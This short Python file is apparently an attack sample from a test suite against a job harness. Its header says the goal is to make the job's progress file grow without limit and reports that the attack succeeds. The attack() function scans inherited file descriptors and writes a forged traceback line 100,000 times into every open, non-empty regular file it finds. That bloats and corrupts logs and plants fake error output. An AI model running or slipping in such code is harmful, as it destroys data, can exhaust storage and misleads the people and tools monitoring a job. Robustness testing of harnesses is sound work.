# what: let the file that says how far the job has come grow without an end
# passes: yes

import os
import stat


def attack():
    for number in range(3, 64):
        try:
            if stat.S_ISREG(os.fstat(number).st_mode) and os.fstat(number).st_size:
                os.write(number, b'  File "/x/stage2_model.py", line 1 in f\n' * 100_000)
        except OSError:
            pass
    return True
